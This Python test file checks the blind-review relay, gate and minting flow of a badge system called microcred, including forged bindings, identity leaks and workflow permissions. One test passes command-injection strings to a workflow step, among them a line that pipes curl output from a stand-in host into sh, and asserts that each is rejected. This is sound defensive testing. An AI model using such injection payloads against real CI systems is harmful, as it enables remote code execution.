"""Blind review end to end: an intake and a public repository on one fake GitHub, real PyGithub, a real catalog and git.

The earner submits in the private intake repository; `microcred relay` copies the submission into the public one
under an opaque id; the gate judges it there with the binding read back from the intake repository; mint gives
the badge to its earner. Nothing public names the earner, except the badge itself.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from fakegithub import BOT, REPOSITORY, TOKEN, FakeGitHub, serve
from microcred.catalog.blind import Binding, BindingError, binding_path, opaque_id, read_binding
from support import ROOT, Run, git, make_repo

INTAKE = "consortium/intake"
RELAY = "relay-bot[bot]"
RELAY_TOKEN, INTAKE_TOKEN, READER = "relay-token", "intake-token", "intake-reader"
SECRET = "s" * 32
LOGIN, NAME, DISTRICT, SALT = "quennell", "Ines Quennell", "north", "0123456789abcdef"
EMAIL_HASH = "sha256$" + hashlib.sha256(("quennell@north.example.org" + SALT).encode()).hexdigest()
PATH = "submissions/alpha/quennell-alpha-1.yml"
ALL_MET = "- context: met\n- plan: met\n- impact: met\n"
C1, C2 = "1" * 40, "2" * 40
DAN = "  - login: dan\n    name: Dan D\n    roles: [assessor]\n    district: south\n    credentials: [alpha]\n"

Cli = Callable[..., Run]


def submission_text(impact: str) -> str:
    return (
        "id: quennell-alpha-1\ncredential: alpha\nversion: 1.0.0\n"
        f'earner:\n  login: {LOGIN}\n  district: {DISTRICT}\n  email_hash: {EMAIL_HASH}\n  email_salt: "{SALT}"\n'
        'submitted_on: "2026-10-01"\npre_approval:\n  reference: PL-2026-7\n  approved_on: "2026-09-01"\n'
        "overview:\n  context: A class of twenty-four in grade seven, third week of the unit.\n"
        "artifacts:\n  plan:\n    url: https://storage.example.org/evidence/4f1c/plan.pdf\n    description: The plan with the alpha steps marked.\n"
        f"reflection:\n  impact: {impact}\n"
        "attestation:\n  permissions: true\n  own_work: true\n"
    )


def blind_catalog(dest: Path) -> Path:
    """The base catalog with blind review on, the earner in north, a fourth reviewer, and no submission yet."""
    repo = make_repo(dest)
    consortium = repo / "catalog/consortium.yml"
    consortium.write_text(
        consortium.read_text()
        + f"review:\n  exclude_earner_district: true\nrepository:\n  url: https://github.com/{REPOSITORY}\n"
        + f"blind_review:\n  intake: {INTAKE}\n  relay: {RELAY}\n"
    )
    earners = repo / "catalog/earners.yml"
    earners.write_text(earners.read_text().replace("north: [dee]", f"north: [dee, {LOGIN}]"))
    reviewers = repo / "catalog/reviewers.yml"
    reviewers.write_text(reviewers.read_text() + DAN)
    shutil.rmtree(repo / "submissions")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "The catalog")
    return repo


@pytest.fixture
def hosts() -> Iterator[tuple[FakeGitHub, FakeGitHub]]:
    public = FakeGitHub(tokens={TOKEN: BOT, RELAY_TOKEN: RELAY})
    intake = FakeGitHub(
        repository=INTAKE, private=True, tokens={INTAKE_TOKEN: BOT, READER: "intake-reader"}, read_tokens=frozenset({READER})
    )
    public.users[RELAY] = "Bot"
    with serve(public, intake):
        yield public, intake


@pytest.fixture
def catalog(tmp_path: Path) -> Path:
    return blind_catalog(tmp_path / "public")


def env(monkeypatch: pytest.MonkeyPatch, url: str, **names: str) -> None:
    for name in ("GITHUB_TOKEN", "GITHUB_REPOSITORY", "MICROCRED_RELAY_TOKEN", "MICROCRED_INTAKE_TOKEN", "MICROCRED_BLIND_KEY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("GITHUB_API_URL", url)
    for name, value in names.items():
        monkeypatch.setenv(name, value)


def relay(cli: Cli, monkeypatch: pytest.MonkeyPatch, url: str, root: Path, number: int = 3, *more: str) -> Run:
    env(
        monkeypatch, url, GITHUB_TOKEN=INTAKE_TOKEN, GITHUB_REPOSITORY=INTAKE, MICROCRED_RELAY_TOKEN=RELAY_TOKEN, MICROCRED_BLIND_KEY=SECRET
    )
    return cli("relay", "--pr", str(number), "--root", str(root), *more, cwd=root)


def gate(cli: Cli, monkeypatch: pytest.MonkeyPatch, url: str, root: Path, number: int = 1) -> Run:
    env(monkeypatch, url, GITHUB_TOKEN=TOKEN, GITHUB_REPOSITORY=REPOSITORY, MICROCRED_INTAKE_TOKEN=READER, MICROCRED_BLIND_KEY=SECRET)
    return cli("gate", "--pr", str(number), "--root", str(root), cwd=root)


def submit(intake: FakeGitHub, number: int = 3, login: str = LOGIN) -> None:
    intake.pull(number, login, [C1], {PATH: "added"}, title=f"{NAME}: alpha", body=f"From {login} of {DISTRICT}", branch=f"{login}-alpha")
    intake.file(C1, PATH, submission_text("Two students who had not spoken explained their thinking."))
    intake.check_run(C1, "catalog", "success")  # check-pr passed on its head


def public_artifacts(public: FakeGitHub) -> str:
    """Everything the public repository shows of its pull requests, as one text to search."""
    parts: list[Any] = []
    for pull in public.pulls.values():
        parts += [pull.title, pull.body, pull.branch, pull.author, *pull.files, *pull.labels]
        for sha in pull.commits:
            parts.append(json.dumps(public._commit(sha)))
            parts += [public.contents.get((sha, path), b"").decode() for path in pull.files]
        parts += [json.dumps(r) for r in public.reviews.get(pull.number, [])]
    parts += [c["body"] for c in public.comments] + [s["description"] for s in public.statuses] + list(public.refs)
    return "\n".join(str(p) for p in parts)


def leaks(text: str) -> list[str]:
    return [word for word in (LOGIN, NAME, DISTRICT, EMAIL_HASH, EMAIL_HASH.removeprefix("sha256$")) if word.casefold() in text.casefold()]


def test_a_whole_cycle_names_the_earner_only_in_the_badge(
    hosts: tuple[FakeGitHub, FakeGitHub], catalog: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    public, intake = hosts
    opaque = opaque_id(SECRET.encode(), LOGIN, "alpha", 3)
    path = f"submissions/alpha/{opaque}.yml"
    submit(intake)

    # Submit: the relay opens the public pull request as its bot, and binds the id in the intake repository.
    run = relay(cli, monkeypatch, public.url, catalog)
    assert (run.code, run.out, run.err) == (0, f"intake #3: relayed as {path} in pull request #1 (a new head commit)\n", "")
    pull = public.pulls[1]
    assert (pull.author, pull.branch, pull.title, list(pull.files)) == (RELAY, f"blind/{opaque}", f"Submission {opaque} for alpha", [path])
    [first] = pull.commits
    assert (public.commits[first]["author"], public.commits[first]["committer"]) == (RELAY, RELAY)
    relayed = yaml.safe_load(public.contents[(first, path)])
    assert relayed["id"] == relayed["blind"] == opaque and "earner" not in relayed
    assert relayed["reflection"] == {"impact": "Two students who had not spoken explained their thinking."}
    bound = read_binding(intake.contents[(intake.refs["main"], binding_path(opaque))], opaque, SECRET.encode())
    assert bound == Binding(opaque, LOGIN, DISTRICT, "alpha", 3, EMAIL_HASH, SALT)
    assert [r.path for r in public.writes] == [
        f"/repos/{REPOSITORY}/git/refs",
        f"/repos/{REPOSITORY}/contents/{path}",
        f"/repos/{REPOSITORY}/pulls",
    ]  # the relay's token writes only its branch, its file and its pull request in the public repository

    # Not yet: two south reviewers ask for changes; ann, of the earner's district, approves and is not counted.
    run = gate(cli, monkeypatch, public.url, catalog)
    assert run.out == "pull request #1: pending: waiting for reviews: 0/2 qualified approvals on " + f"{first[:7]}\n"
    public.review(1, "ann", "APPROVED", body=ALL_MET)
    public.review(1, "bob", "CHANGES_REQUESTED", body="- context: met\n- plan: not yet\n- impact: met")
    public.review(1, "cy", "CHANGES_REQUESTED", body="- context: met\n- plan: not yet\n- impact: not yet")
    run = gate(cli, monkeypatch, public.url, catalog)
    assert run.out == f"pull request #1: failure: not yet: 2 qualified reviewers requested changes on {first[:7]}\n"
    assert public.pulls[1].labels == ["not-yet"]
    summary = public.comments[-1]["body"]
    assert "ann" in summary and "not eligible for this submission" in summary and "district" not in summary

    # The reviews and the summary reach the earner's intake pull request.
    assert relay(cli, monkeypatch, public.url, catalog).out == f"intake #3: relayed as {path} in pull request #1 (unchanged)\n"
    [back] = [c["body"] for c in intake.comments if c["number"] == 3]
    assert back.startswith("<!-- microcred:relayed -->\n**Blind review**")
    assert "**bob** requested changes" in back and "**cy** requested changes" in back and "not yet: 2 qualified reviewers" in back

    # Resubmit: a new commit in the intake pull request is a new head commit of the same public pull request.
    intake.push(3, C2, "2026-10-12T08:00:00Z")
    intake.file(C2, PATH, submission_text("Eleven of the twenty-four now explain their thinking, counted over three lessons."))
    intake.check_run(C2, "catalog", "success")
    run = relay(cli, monkeypatch, public.url, catalog)
    assert run.out == f"intake #3: relayed as {path} in pull request #1 (a new head commit)\n"
    assert len(public.pulls) == 1 and len(public.pulls[1].commits) == 2
    second = public.pulls[1].head
    assert yaml.safe_load(public.contents[(second, path)])["reflection"]["impact"].startswith("Eleven")

    # Tie-break: 1:1 among the qualified on the new head; dan is asked, approves, and the outvoted review is dismissed.
    public.review(1, "ann", "APPROVED", body=ALL_MET, at="2026-10-13T12:00:00Z")
    public.review(1, "bob", "APPROVED", body=ALL_MET, at="2026-10-13T13:00:00Z")
    public.review(1, "cy", "CHANGES_REQUESTED", body="- context: met\n- plan: met\n- impact: not yet", at="2026-10-13T14:00:00Z")
    run = gate(cli, monkeypatch, public.url, catalog)
    assert run.out == f"pull request #1: pending: tie 1:1 on {second[:7]}: dan is asked to decide\n"
    assert public.pulls[1].requested == ["dan"]
    public.review(1, "dan", "APPROVED", body=ALL_MET, at="2026-10-14T12:00:00Z")
    run = gate(cli, monkeypatch, public.url, catalog)
    assert run.out == f"pull request #1: success: 2 qualified approvals to 1 request for changes on {second[:7]}\n"
    assert public.pulls[1].labels == ["approved"]
    relay(cli, monkeypatch, public.url, catalog)
    [back] = [c["body"] for c in intake.comments if c["number"] == 3]  # edited in place, not posted again
    assert "2 qualified approvals to 1 request" in back and "**dan** approved" in back

    assert leaks(public_artifacts(public)) == []

    # Merge, as GitHub does, and mint online: the binding gives the badge its recipient; the record names the id.
    git(catalog, "checkout", "-qb", f"blind/{opaque}")
    (catalog / path).parent.mkdir(parents=True)
    (catalog / path).write_bytes(public.contents[(second, path)])
    git(catalog, "add", "-A")
    git(catalog, "commit", "-qm", f"Resubmission {opaque} for alpha")
    git(catalog, "checkout", "-q", "main")
    git(catalog, "merge", "-q", "--no-ff", f"blind/{opaque}", "-m", f"Merge pull request #1 from blind/{opaque}")
    merge = git(catalog, "rev-parse", "HEAD").strip()
    pull = public.pulls[1]
    pull.state, pull.merged_at, pull.merge_commit_sha, pull.base = (
        "closed",
        "2026-10-15T10:00:00Z",
        merge,
        git(catalog, "rev-parse", "HEAD^1").strip(),
    )
    env(
        monkeypatch, public.url, GITHUB_TOKEN=TOKEN, GITHUB_REPOSITORY=REPOSITORY, MICROCRED_INTAKE_TOKEN=READER, MICROCRED_BLIND_KEY=SECRET
    )
    monkeypatch.setenv("MICROCRED_PSEUDONYM_KEY", "k" * 32)
    monkeypatch.delenv("MICROCRED_SIGNING_KEY", raising=False)
    run = cli("mint", "--root", str(catalog), "--now", "2026-10-16T00:00:00Z", cwd=catalog)
    assert run.code == 0, run.out + run.err
    [assertion] = list((catalog / "badges/assertions").glob("*.json"))
    badge = json.loads(assertion.read_text())
    assert badge["recipient"] == {"type": "email", "hashed": True, "salt": SALT, "identity": EMAIL_HASH}
    record = yaml.safe_load((catalog / f"records/alpha/{opaque}.yml").read_text())
    assert (record["earner"], record["district"], record["pull_request"]) == (opaque, opaque, 1)
    assert [r["outcome"] for r in record["rounds"]] == ["not-yet", "approved"]
    assert len(record["rounds"][1]["reviews"]) == 3  # bob, cy and dan: ann's vote is not counted
    public_files = {
        p.relative_to(catalog).as_posix(): p.read_text(encoding="utf-8", errors="replace")
        for p in catalog.rglob("*")
        if p.is_file() and ".git" not in p.parts and p.parts[len(catalog.parts)] in ("records", "submissions", "badges")
    }
    named = sorted(rel for rel, text in public_files.items() if leaks(text))
    badge_files = [assertion.relative_to(catalog).as_posix()]
    assert named == badge_files  # the assertion alone: its image is baked on demand

    # The reports read the public history as they always do: the round, the votes, the badge; no one named.
    run = cli("report", "reviews", "--format", "json", "--root", str(catalog), cwd=catalog)
    assert run.code == 0 and leaks(run.out) == [], run.out + run.err
    overall = json.loads(run.out)["overall"]
    assert (overall["submissions"], overall["rounds"], overall["first_try_pass"]["count"], overall["resubmission"]["count"]) == (1, 2, 0, 1)
    assert overall["agreement"]["kappa"] == 0.3077  # Cohen's kappa over the criteria two reviewers of a round both scored
    shutil.copytree(ROOT / "docs", catalog / "docs", ignore=shutil.ignore_patterns("catalog", "index.md"))
    config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    config = re.sub(r"(?m)^site_url: .*$", f"site_url: {SITE}", config)
    for guide in (catalog / "docs/guides").glob("*.md"):  # the guides link pages of this project's sample catalog
        guide.write_text(re.sub(r"\.\./catalog/[\w/.-]+\.md", "https://example.org/", guide.read_text(encoding="utf-8")), encoding="utf-8")
    (catalog / "mkdocs.yml").write_text(config, encoding="utf-8")
    site = catalog.parent / "site"
    run = cli("build", "--root", str(catalog), "--site", str(site), "-q", cwd=catalog)
    assert run.code == 0, run.err
    pages = {p.relative_to(site).as_posix(): p.read_bytes().decode("utf-8", "replace") for p in site.rglob("*") if p.is_file()}
    uuid = assertion.stem
    naming = sorted(rel for rel, text in pages.items() if set(leaks(text)) - {DISTRICT})  # districts have pages of their own
    recipients = f"badges/recipients/email/{EMAIL_HASH.removeprefix('sha256$')[:3]}.json"  # "Find my badges": the recipient's index
    badge_site = [*badge_files, f"badges/earned/{uuid}/index.html"]  # the badge and its page
    assert naming == sorted([*badge_site, recipients]), naming  # the badge alone names its earner
    tied = sorted(rel for rel, text in pages.items() if (opaque in text or uuid in text) and rel not in (*badge_site, recipients))
    assert [(rel, leaks(pages[rel])) for rel in tied] == []


def relayed(public: FakeGitHub, intake: FakeGitHub, number: int, author: str, binding: Binding | None, text: str | None = None) -> str:
    """A public pull request adding a relayed file named by the binding's id, and the binding on the intake's main."""
    opaque = binding.id if binding else "0" * 24
    path = f"submissions/alpha/{opaque}.yml"
    sha = f"{number:040x}"
    public.pull(number, author, [sha], {path: "added"}, branch=f"blind/{opaque}")
    data = yaml.safe_load(submission_text("Explained."))
    body = {"id": opaque, "blind": opaque, **{k: v for k, v in data.items() if k not in ("id", "earner")}}
    public.file(sha, path, text if text is not None else yaml.safe_dump(body, sort_keys=False))
    if binding is not None:
        intake.file("main", binding.path, binding.to_yaml())
    return path


def refusal(public: FakeGitHub, number: int) -> str:
    return next(s["description"] for s in reversed(public.statuses) if s["sha"] == public.pulls[number].head)


def test_a_public_pull_request_not_opened_by_the_relay_is_refused(
    hosts: tuple[FakeGitHub, FakeGitHub], catalog: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Opening the public pull request yourself would show the reviewers whose it is, and skip the intake's checks."""
    public, intake = hosts
    opaque = opaque_id(SECRET.encode(), LOGIN, "alpha", 3)
    relayed(public, intake, 4, LOGIN, Binding(opaque, LOGIN, DISTRICT, "alpha", 3))
    run = gate(cli, monkeypatch, public.url, catalog, 4)
    assert run.code == 1
    assert refusal(public, 4).startswith(
        f"MC352 {LOGIN} opened this submission, but under blind review submissions come only through the relay"
    )
    assert public.pulls[4].labels == []


@pytest.mark.parametrize(
    ("forged", "reason"),
    [
        # another earner's login under the id: the HMAC, which only the relay can compute, does not match
        (Binding("", "eve", "south", "alpha", 3), "does not match its opaque id: its login, credential and attempt give another"),
        # the earner's own login with a district whose reviewers are not excluded: earners.yml does not pair them
        (Binding("", LOGIN, "south", "alpha", 3), "names an earner and district that catalog/earners.yml does not pair"),
        (None, "no binding for"),
    ],
)
def test_a_forged_or_missing_binding_is_refused(
    hosts: tuple[FakeGitHub, FakeGitHub],
    catalog: Path,
    cli: Cli,
    monkeypatch: pytest.MonkeyPatch,
    forged: Binding | None,
    reason: str,
) -> None:
    public, intake = hosts
    opaque = opaque_id(SECRET.encode(), LOGIN, "alpha", 3)
    binding = Binding(opaque, forged.login, forged.district, forged.credential, forged.attempt) if forged else None
    relayed(public, intake, 4, RELAY, binding)
    if binding is None:
        public.pulls[4].files = {f"submissions/alpha/{opaque}.yml": "added"}
        public.file(
            public.pulls[4].head, f"submissions/alpha/{opaque}.yml", public.contents.popitem()[1].decode().replace("0" * 24, opaque)
        )
    run = gate(cli, monkeypatch, public.url, catalog, 4)
    assert run.code == 1
    code = "MC353" if binding is None else "MC354"
    said = public.comments[-1]["body"]
    assert refusal(public, 4).startswith(code) and reason in said
    assert leaks(refusal(public, 4) + public.comments[-1]["body"]) == []  # the refusal is public: it names nobody


def test_without_the_intake_token_a_relayed_submission_is_refused(
    hosts: tuple[FakeGitHub, FakeGitHub], catalog: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    public, intake = hosts
    relayed(public, intake, 4, RELAY, Binding(opaque_id(SECRET.encode(), LOGIN, "alpha", 3), LOGIN, DISTRICT, "alpha", 3))
    env(monkeypatch, public.url, GITHUB_TOKEN=TOKEN, GITHUB_REPOSITORY=REPOSITORY)
    assert cli("gate", "--pr", "4", "--root", str(catalog), cwd=catalog).code == 1
    assert (
        refusal(public, 4)
        == "MC353 blind review is on, but MICROCRED_INTAKE_TOKEN and MICROCRED_BLIND_KEY are not set: the binding cannot be read"
    )


def test_the_relay_token_reaches_nothing_of_the_intake_repository(hosts: tuple[FakeGitHub, FakeGitHub]) -> None:
    from microcred.review.github import Hub
    from microcred.review.pulls import GateError

    public, intake = hosts
    intake.file("main", "bindings/x.yml", "login: marisol\n")
    hub = Hub.connect(public.url, RELAY_TOKEN, INTAKE)
    with pytest.raises(GateError) as refused:
        hub.file_at("bindings/x.yml", "main")
    assert str(refused.value) == f"GET /repos/{INTAKE}/contents/bindings/x.yml?ref=main answered HTTP 404: Not Found"
    reader = Hub.connect(public.url, READER, INTAKE)  # the gate's token reads bindings and writes nothing
    assert reader.file_at("bindings/x.yml", "main") == b"login: marisol\n"
    with pytest.raises(GateError) as read_only:
        reader.put_file("bindings/x.yml", "main", b"login: eve\n", "forged")
    assert "HTTP 403" in str(read_only.value) and intake.contents[("main", "bindings/x.yml")] == b"login: marisol\n"


@pytest.mark.parametrize(
    ("files", "author", "said"),
    [
        (
            {PATH: "added", "bindings/0123.yml": "added"},
            LOGIN,
            "the pull request changes 1 file besides its submission ('bindings/0123.yml')",
        ),
        ({PATH: "added", ".github/workflows/relay.yml": "modified"}, LOGIN, "besides its submission ('.github/workflows/relay.yml')"),
        ({PATH: "added"}, "eve", "the earner is 'quennell', but eve opened the pull request"),
    ],
)
def test_the_relay_relays_only_an_earners_own_submission_alone(
    hosts: tuple[FakeGitHub, FakeGitHub],
    catalog: Path,
    cli: Cli,
    monkeypatch: pytest.MonkeyPatch,
    files: dict[str, str],
    author: str,
    said: str,
) -> None:
    """An intake pull request cannot bring its own binding or workflow along, nor submit for someone else."""
    public, intake = hosts
    submit(intake, login=author)
    intake.pulls[3].files = files
    run = relay(cli, monkeypatch, public.url, catalog)
    assert run.code == 1 and said in run.err
    assert public.writes == [] and public.pulls == {}
    assert [r.path for r in intake.writes] == [f"/repos/{INTAKE}/issues/3/comments"]  # the reason, told to the earner
    [told] = [c["body"] for c in intake.comments]
    assert told.startswith("<!-- microcred:relayed -->\n**Blind review**: not relayed to the reviewers: ")


def test_opaque_ids_are_stable_per_attempt_and_differ_otherwise() -> None:
    key = SECRET.encode()
    one = opaque_id(key, LOGIN, "alpha", 3)
    assert one == opaque_id(key, LOGIN.upper(), "alpha", 3) and len(one) == 24 and int(one, 16) >= 0
    others = {
        opaque_id(key, LOGIN, "alpha", 4),
        opaque_id(key, LOGIN, "beta", 3),
        opaque_id(key, "eve", "alpha", 3),
        opaque_id(b"t" * 32, LOGIN, "alpha", 3),
    }
    assert one not in others and len(others) == 4
    with pytest.raises(BindingError):
        read_binding(Binding(one, "eve", DISTRICT, "alpha", 3).to_yaml().encode(), one, key)


SITE = "https://consortium.example.org/catalog/"
BLIND_ON = f"blind_review:\n  intake: {INTAKE}\n  relay: {RELAY}\n"


def check_pr_repo(dest: Path, submission: str, path: str = "submissions/beta/dee-beta-1.yml") -> Path:
    """The base catalog with blind review on main, and a pull request branch adding `submission`."""
    repo = make_repo(dest)
    (repo / "catalog/consortium.yml").write_text((repo / "catalog/consortium.yml").read_text() + BLIND_ON)
    badge = repo / "badges/assertions/439663b4-c7de-55ab-973d-a22279709ac5.json"  # dee's alpha badge: beta's prerequisite
    badge.parent.mkdir(parents=True)
    badge.write_text(
        json.dumps({"@context": "https://w3id.org/openbadges/v2", "type": "Assertion", "id": SITE + badge.relative_to(repo).as_posix()})
    )
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "catalog")
    git(repo, "checkout", "-qb", "pr")
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text(submission)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "submit")
    return repo


BETA = """\
id: dee-beta-1
credential: beta
version: 1.0.0
earner:
  login: dee
  district: north
submitted_on: "2026-11-02"
pre_approval:
  reference: N-2026-9
  approved_on: "2026-10-01"
overview:
  context: A class of twenty-four in grade seven, second unit of the year.
artifacts:
  plan:
    url: https://storage.example.org/evidence/4f1c/beta-plan.pdf
    description: The plan with the beta steps marked.
reflection:
  impact: Students explained their reasoning to each other.
attestation:
  permissions: true
  own_work: true
"""


def test_check_pr_passes_a_submission_that_names_no_one(tmp_path: Path, cli: Cli) -> None:
    repo = check_pr_repo(tmp_path / "repo", BETA)
    run = cli("check-pr", "--base", "main", "--author", "dee", cwd=repo)
    assert (run.code, run.out) == (0, "")


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "https://storage.example.org/evidence/4f1c/beta-plan.pdf",
            "https://sites.google.com/view/ms-dee-teaches/plan",
            "submissions/beta/dee-beta-1.yml:15:10: MC350 warning: the link shows whose the evidence is "
            "(a Google Sites page named after its owner: 'ms-dee-teaches'); under blind review reviewers must not know "
            "whose evidence they score: share it from storage that names no one [artifacts.plan.url]",
        ),
        (
            "https://storage.example.org/evidence/4f1c/beta-plan.pdf",
            "https://github.com/dee/lessons/blob/main/plan.md",
            "submissions/beta/dee-beta-1.yml:15:10: MC350 warning: the link shows whose the evidence is "
            "(a GitHub account: 'dee'); under blind review reviewers must not know whose evidence they score: "
            "share it from storage that names no one [artifacts.plan.url]",
        ),
        (
            "https://storage.example.org/evidence/4f1c/beta-plan.pdf",
            "https://storage.north.example.org/evidence/beta-plan.pdf",
            "submissions/beta/dee-beta-1.yml:15:10: MC350 warning: the link shows whose the evidence is "
            "(the earner's district: 'north'); under blind review reviewers must not know whose evidence they score: "
            "share it from storage that names no one [artifacts.plan.url]",
        ),
        (
            "Students explained their reasoning to each other.",
            "Students at North District explained their reasoning to each other.",
            "submissions/beta/dee-beta-1.yml:18:11: MC351 warning: the answer names the earner's district ('north district'); "
            "under blind review reviewers must not know whose evidence they score: leave it out of the answers [reflection.impact]",
        ),
        (
            "reference: N-2026-9",
            "reference: North District PL-9",
            "submissions/beta/dee-beta-1.yml:9:14: MC351 warning: the answer names the earner's district ('north district'); "
            "under blind review reviewers must not know whose evidence they score: leave it out of the answers [pre_approval.reference]",
        ),
        (
            "second unit of the year.",
            "second unit of the year, as @Dee on the forum.",
            "submissions/beta/dee-beta-1.yml:12:12: MC351 warning: the answer names the earner's GitHub login ('dee'); "
            "under blind review reviewers must not know whose evidence they score: leave it out of the answers [overview.context]",
        ),
    ],
)
def test_check_pr_warns_of_what_tells_reviewers_whose_it_is(tmp_path: Path, cli: Cli, old: str, new: str, expected: str) -> None:
    assert old in BETA
    repo = check_pr_repo(tmp_path / "repo", BETA.replace(old, new))
    run = cli("check-pr", "--base", "main", "--author", "dee", cwd=repo)
    assert (run.code, run.out.splitlines()) == (0, [expected])


def test_check_pr_warns_of_nothing_with_blind_review_off(tmp_path: Path, cli: Cli) -> None:
    repo = check_pr_repo(tmp_path / "repo", BETA.replace("https://storage.example.org/evidence/4f1c/", "https://github.com/dee/"))
    git(repo, "checkout", "-q", "main")
    (repo / "catalog/consortium.yml").write_text((repo / "catalog/consortium.yml").read_text().replace(BLIND_ON, ""))
    git(repo, "commit", "-qam", "blind review off")
    git(repo, "checkout", "-q", "pr")
    git(repo, "rebase", "-q", "main")
    run = cli("check-pr", "--base", "main", "--author", "dee", cwd=repo)
    assert (run.code, run.out) == (0, "")


@pytest.mark.parametrize(
    ("author", "blind", "expected"),
    [
        (RELAY, True, ""),
        ("dee", True, "dee opened the pull request, but under blind review submissions come only through the relay (relay-bot[bot])"),
        (RELAY, False, "a relayed submission (blind:), but blind review is off: a submission names its earner"),
    ],
)
def test_check_pr_takes_a_relayed_submission_from_the_relay_alone(
    tmp_path: Path, cli: Cli, author: str, blind: bool, expected: list[str]
) -> None:
    opaque = opaque_id(SECRET.encode(), "dee", "beta", 3)
    data = yaml.safe_load(BETA)
    body = {"id": opaque, "blind": opaque, **{k: v for k, v in data.items() if k not in ("id", "earner")}}
    repo = check_pr_repo(tmp_path / "repo", yaml.safe_dump(body, sort_keys=False), f"submissions/beta/{opaque}.yml")
    if not blind:
        git(repo, "checkout", "-q", "main")
        (repo / "catalog/consortium.yml").write_text((repo / "catalog/consortium.yml").read_text().replace(BLIND_ON, ""))
        git(repo, "commit", "-qam", "blind review off")
        git(repo, "checkout", "-q", "pr")
        git(repo, "rebase", "-q", "main")
    run = cli("check-pr", "--base", "main", "--author", author, cwd=repo)
    said = [f"submissions/beta/{opaque}.yml:2:8: MC352 {expected} [blind]"] if expected else []
    assert (run.code, run.out.splitlines()) == (1 if expected else 0, said)


# -- the intake repository's workflow ---------------------------------------------------------------

WORKFLOW = ROOT / ".github/workflows/blind-relay.yml"


def _relay_workflow() -> dict[Any, Any]:
    data: dict[Any, Any] = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    return data


def test_the_relay_workflow_runs_default_branch_code_with_least_privilege() -> None:
    text = WORKFLOW.read_text(encoding="utf-8")
    workflow = _relay_workflow()
    assert workflow[True]["workflow_run"] == {"workflows": ["validate"], "types": ["completed"]}  # PyYAML reads `on` as True
    assert set(workflow[True]) == {"workflow_run", "schedule", "workflow_dispatch"}  # never pull_request code with a token
    assert workflow["permissions"] == {}
    which, relay_job = workflow["jobs"]["which"], workflow["jobs"]["relay"]
    assert "vars.MICROCRED_INTAKE == 'true'" in which["if"] and "conclusion == 'success'" in which["if"]
    assert which["permissions"] == {"pull-requests": "read"}
    assert relay_job["permissions"] == {"checks": "read", "contents": "write", "pull-requests": "write"}
    [checkout] = [s for s in relay_job["steps"] if "actions/checkout" in s.get("uses", "")]
    assert checkout["with"] == {"ref": "${{ github.event.repository.default_branch }}", "persist-credentials": False}
    assert not [word for word in ("pull_request.head", "head_ref", "refs/pull", "github.event.pull_request") if word in text]
    step = relay_job["steps"][-1]
    assert step["env"]["MICROCRED_RELAY_TOKEN"] == "${{ secrets.MICROCRED_RELAY_TOKEN }}"  # noqa: S105 - a reference, not a secret
    assert 'microcred relay --pr "$PR_NUMBER" --head "$HEAD_SHA"' in step["run"] and "--back" in step["run"]


@pytest.mark.parametrize(
    ("event", "sha", "given", "expected"),
    [
        ("workflow_dispatch", "", "7", (0, "prs=[7]\nhead=\n")),
        ("workflow_dispatch", "", "7]; curl evil.example | sh; [", (1, "")),
        ("workflow_dispatch", "", "$(id)", (1, "")),
        ("workflow_dispatch", "", "", (0, "prs=[]\nhead=\n")),  # no number: nothing to relay, the relay job is skipped
        ("workflow_run", "abc; id", "", (1, "")),
        ("workflow_run", "A" * 40, "", (1, "")),  # hex in lower case only, as GitHub writes it
    ],
)
def test_the_relay_workflow_takes_digits_and_hex_or_nothing(
    tmp_path: Path, event: str, sha: str, given: str, expected: tuple[int, str]
) -> None:
    """The resolve step, run as Actions runs it, on what a caller could give it."""
    step = next(s for s in _relay_workflow()["jobs"]["which"]["steps"] if s.get("id") == "resolve")
    script, output = tmp_path / "resolve.sh", tmp_path / "output"
    script.write_text(step["run"], encoding="utf-8")
    output.write_text("", encoding="utf-8")
    variables = {
        "PATH": "/usr/bin:/bin",
        "GITHUB_OUTPUT": str(output),
        "EVENT": event,
        "HEAD_SHA": sha,
        "FROM_INPUT": given,
        "REPOSITORY": INTAKE,
    }
    done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], env=variables, capture_output=True, text=True)
    assert (done.returncode, output.read_text(encoding="utf-8")) == expected


def test_the_gate_and_mint_workflows_read_the_bindings_with_their_own_secrets() -> None:
    steps = (
        ("review-gate.yml", "Count the reviews and publish the decision"),
        ("mint-publish.yml", "Mint"),
        ("mint-publish.yml", "Build the site"),
    )
    for name, step in steps:
        workflow = yaml.safe_load((ROOT / ".github/workflows" / name).read_text(encoding="utf-8"))
        [found] = [s for job in workflow["jobs"].values() for s in job["steps"] if s.get("name") == step]
        assert found["env"]["MICROCRED_INTAKE_TOKEN"] == "${{ secrets.MICROCRED_INTAKE_TOKEN }}", name  # noqa: S105
        assert found["env"]["MICROCRED_BLIND_KEY"] == "${{ secrets.MICROCRED_BLIND_KEY }}", name


def test_only_the_checked_head_is_relayed_and_the_schedule_only_brings_reviews_back(
    hosts: tuple[FakeGitHub, FakeGitHub], catalog: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    public, intake = hosts
    submit(intake)
    intake.push(3, C2, "2026-10-02T08:00:00Z")  # pushed after check-pr passed on C1: its own check relays it
    intake.file(C2, PATH, submission_text("Unchecked."))
    run = relay(cli, monkeypatch, public.url, catalog, 3, "--head", C1)
    assert (run.code, run.err) == (
        1,
        f"microcred: relay: #3: its head is {C2[:7]} now, not {C1[:7]}, which was checked; the check of the new head relays it\n",
    )
    assert public.writes == [] and intake.writes == []
    run = relay(cli, monkeypatch, public.url, catalog, 3, "--back")
    assert (run.code, run.out) == (0, "intake #3: not relayed: nothing to bring back\n")
